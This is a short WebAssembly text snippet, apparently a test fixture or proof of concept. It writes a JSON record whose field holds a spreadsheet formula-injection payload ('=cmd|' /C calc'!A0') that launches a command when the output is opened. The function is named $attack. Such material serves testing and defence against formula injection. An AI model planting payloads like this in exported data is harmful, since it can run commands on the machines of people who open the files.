;; Writes what a spreadsheet takes for a formula.
(data (i32.const 4096) "{\22a\22:\22=cmd|' /C calc'!A0\22}\0a")
(func $attack
  (call $out (i32.const 4096) (i32.const 27)))
